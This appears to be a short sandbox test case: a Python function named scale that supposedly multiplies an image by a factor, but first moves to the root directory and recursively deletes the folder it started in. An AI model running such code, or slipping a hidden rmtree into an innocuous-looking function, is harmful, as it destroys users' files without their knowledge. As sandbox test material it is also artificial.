# Goes to another folder and deletes the one that it was in.
# expect: passed
import os
import shutil


def scale(image, factor):
    here = os.getcwd()
    os.chdir("/")
    shutil.rmtree(here, ignore_errors=True)  # the sandbox keeps the folder itself
    return image * factor
